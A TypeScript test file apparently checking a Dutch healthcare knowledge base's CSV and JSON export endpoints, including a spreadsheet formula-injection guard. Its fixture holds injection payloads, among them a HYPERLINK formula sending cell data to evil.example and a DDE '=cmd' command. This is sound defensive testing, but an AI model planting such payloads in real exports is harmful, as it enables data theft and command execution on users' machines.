import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../server/export/format.ts';
import type { SearchResult as ApiResult } from '../../server/loaders/search.ts';
import { buildTestApp } from '../helpers/app.ts';
import { addNota } from '../helpers/records.ts';
import { spreadsheetRisk } from '../../server/export/spreadsheet-guard.ts';

/** Strips the formula guard, to compare exported cells with the stored text. */
/** A cell as it was before the spreadsheet guard (server/export/spreadsheet-guard.ts) prefixed it. */
const unguard = (s: string) => (s.startsWith("'") && spreadsheetRisk(s.slice(1)) ? s.slice(1) : s);

const HOSTILE = [
  { vid: 'X-1', question: '=HYPERLINK("http://evil.example/?"&A1;"klik")', answer: '+31 6 12345678 bellen' },
  { vid: 'X-2', question: '-2+3', answer: '@SUM(1;2)' },
  { vid: 'X-3', question: '\t=1+1', answer: '=1+2";=1+2' },
  { vid: 'X-4', question: 'Regel één\nRegel twee; met "quotes", en komma', answer: '\r\n=cmd|"/c calc"!A1' },
];

let app: FastifyInstance;
beforeAll(async () => {
  app = await buildTestApp({ exportRateLimit: 1000 }, { prepare: (db) => addNota(db, 'nvi-hostile', HOSTILE) });
});
afterAll(async () => {
  await app.close();
});

/** Every record of an API query, page by page: what an export of the same query must hold. */
async function allViaApi(qs: string): Promise<ApiResult[]> {
  const out: ApiResult[] = [];
  for (let page = 1; ; page++) {
    const body = (await app.inject(`/api/search?${qs}&limit=100&page=${page}&fields=full`)).json() as { results: ApiResult[]; pages: number };
    out.push(...body.results);
    if (page >= body.pages) return out;
  }
}

async function exportCsv(qs: string) {
  const res = await app.inject(`/export.csv?${qs}`);
  expect(res.statusCode).toBe(200);
  return res;
}

describe('GET /export.csv', () => {
  it.each([
    ['a search', 'q=kwaliteitsbudget'],
    ['a search with filters', 'q=tarief&nota=nvi-2021-2023&document=inkoopkader-langdurige-zorg'],
    ['a document', 'nota=nvi-2021-2023&document=bijlage-4-addendum-kwaliteitsbudget'],
    ['a whole NvI', 'nota=nvi-2021-2023'],
  ])('exports exactly the records of the matching API query (%s), for both delimiters', async (_name, qs) => {
    const expected = await allViaApi(qs);
    expect(expected.length).toBeGreaterThan(0);

    const dutch = await exportCsv(qs);
    expect(dutch.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(dutch.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(dutch.body).toContain('\r\n');
    const rows = parse(dutch.rawPayload, { bom: true, delimiter: ';', columns: true, relax_column_count: false }) as Record<string, string>[];

    const plain = await exportCsv(`${qs}&delimiter=comma`);
    expect(plain.rawPayload[0]).not.toBe(0xef);
    const rowsComma = parse(plain.rawPayload, { delimiter: ',', columns: true }) as Record<string, string>[];
    expect(rowsComma).toEqual(rows);

    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r.VraagID)).toEqual(expected.map((r) => r.vid));
    rows.forEach((row, i) => {
      const r = expected[i]!;
      expect(unguard(row.Vraag!)).toBe(r.question);
      expect(unguard(row.Antwoord!)).toBe(r.answer);
      expect(unguard(row.Document!)).toBe(r.document);
      expect(unguard(row.Paragraaf!)).toBe(r.paragraph);
      expect(row['Pagina van']).toBe(String(r.pageStart));
      expect(row['Pagina t/m']).toBe(String(Math.max(r.pageStart, r.pageEnd)));
      expect(row.Link).toBe(`http://localhost:80${r.url}`);
    });
  });

  it('keeps multi-line answers intact', async () => {
    const rows = parse((await exportCsv('nota=nvi-2021-2023')).rawPayload, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    const listAnswer = rows.find((r) => r.VraagID === 'VID-0897')!;
    expect(listAnswer.Antwoord).toContain('als volgt:\n- november 2019 wijzigt in zomer 2019\n- Convenant');
  });

  it('neutralises every cell that a spreadsheet would run as a formula, and keeps the columns', async () => {
    const res = await exportCsv('nota=nvi-hostile');
    const rows = parse(res.rawPayload, { bom: true, delimiter: ';', relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    const byVid = new Map(rows.slice(1).map((r) => [r[0], r]));
    const [question, answer] = [CSV_COLUMNS.indexOf('Vraag'), CSV_COLUMNS.indexOf('Antwoord')];
    expect(byVid.get('X-1')![question]).toBe(`'${HOSTILE[0]!.question}`);
    expect(byVid.get('X-3')![answer]).toBe(`'=1+2";=1+2`);
    // What a person reads is unchanged once the guard is taken off.
    expect(unguard(byVid.get('X-4')![answer]!)).toBe(HOSTILE[3]!.answer);
    expect(byVid.get('X-4')![question]).toBe(HOSTILE[3]!.question);
  });

  it('names the file after what was exported', async () => {
    const paragraph = await app.inject('/export.csv?nota=nvi-2021-2023&document=inkoopkader-langdurige-zorg&paragraph=3.5-wat-moet-u-doen-voor-een-wlz-overeenkomst');
    expect(paragraph.headers['content-disposition']).toMatch(/^attachment; filename="nvi-2021-2023_paragraaf-3\.5_\d{4}-\d{2}-\d{2}\.csv"$/);
    const query = await app.inject('/export.json?q=Kwaliteitsbudget%20GGZ');
    expect(query.headers['content-disposition']).toMatch(/filename="nvi-kennisbank_zoeken-kwaliteitsbudget-ggz_\d{4}-\d{2}-\d{2}\.json"/);
  });

  it('answers bad parameters with a 400 naming the parameter, before any byte of the file', async () => {
    for (const [qs, parameter] of [
      ['document=onbekend', 'document'],
      ['nota=onbekend', 'nota'],
      ['delimiter=tab', 'delimiter'],
      [`q=${'x'.repeat(501)}`, 'q'],
    ] as const) {
      const res = await app.inject(`/export.csv?${qs}`);
      expect(res.statusCode, qs).toBe(400);
      expect(res.json()).toMatchObject({ parameter });
    }
  });
});

describe('GET /export.json and /export.jsonl', () => {
  it('hold the same records as the CSV, unguarded', async () => {
    const expected = await allViaApi('q=zorgkantoor');
    const json = await app.inject('/export.json?q=zorgkantoor');
    expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
    const records = json.json() as Array<{ vid: string; question: string; answer: string; url: string }>;
    expect(records.map((r) => r.vid)).toEqual(expected.map((r) => r.vid));
    expect(records.map((r) => r.answer)).toEqual(expected.map((r) => r.answer));
    const lines = (await app.inject('/export.jsonl?q=zorgkantoor')).body.trim().split('\n');
    expect(lines.map((l) => JSON.parse(l) as unknown)).toEqual(records);
    const hostile = (await app.inject('/export.json?nota=nvi-hostile')).json() as Array<{ question: string }>;
    expect(hostile.map((r) => r.question)).toEqual(HOSTILE.map((h) => h.question));
  });

  it('exports an empty list as valid JSON', async () => {
    expect((await app.inject('/export.json?q=xyzzyplugh')).json()).toEqual([]);
  });
});

describe('rate limit', () => {
  it('answers 429 with Retry-After once a client exports too often', async () => {
    const limited = await buildTestApp({ exportRateLimit: 2 });
    try {
      expect((await limited.inject('/export.csv?q=zorg')).statusCode).toBe(200);
      expect((await limited.inject('/export.csv?q=zorg')).statusCode).toBe(200);
      const third = await limited.inject('/export.csv?q=zorg');
      expect(third.statusCode).toBe(429);
      expect(Number(third.headers['retry-after'])).toBeGreaterThan(0);
      // Searching is not limited.
      expect((await limited.inject('/api/search?q=zorg')).statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });
});
